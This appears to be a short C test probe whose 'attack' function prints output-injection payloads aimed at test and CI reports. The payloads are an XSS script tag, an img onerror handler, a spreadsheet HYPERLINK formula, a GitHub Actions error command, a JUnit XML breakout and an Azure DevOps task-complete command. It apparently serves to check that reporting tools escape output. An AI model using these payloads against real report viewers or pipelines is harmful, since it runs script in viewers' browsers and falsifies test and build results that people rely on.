/* SPDX-License-Identifier: MIT */
/*
 * Idea: Markup in the output is shown in a report.
 * Wants: a script in the report's page
 * Seen by: <script in the report
 * Told: run
 * Won: says "<script>"
 */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
static void attack(void)
{
	printf("<script>alert(1)</script><img src=x onerror=alert(1)>\n");
	fprintf(stderr, "=HYPERLINK(\"http://a.test\",\"x\")\n::error::x\n"
			"]]></failure><testcase/>\n##vso[task.complete]\n");
	fflush(stdout);
}
